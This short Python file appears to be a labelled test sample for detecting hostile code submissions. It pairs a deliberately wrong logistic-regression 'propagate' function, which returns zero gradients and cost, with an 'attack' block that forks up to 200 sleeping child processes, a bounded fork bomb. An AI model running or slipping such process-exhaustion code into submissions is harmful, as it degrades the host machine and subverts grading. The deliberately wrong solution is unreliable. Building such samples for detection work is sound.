# class: a bounded fork bomb
# --- honest
import numpy as np


def propagate(w, b, X, Y):
    # wrong on purpose: the gradients and the cost are all zero
    return {"dw": np.zeros_like(w, dtype=float), "db": 0.0}, 0.0

# --- attack
import os
children = 0
for _ in range(200):
    try:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
    except OSError:
        break
print("forked", children)
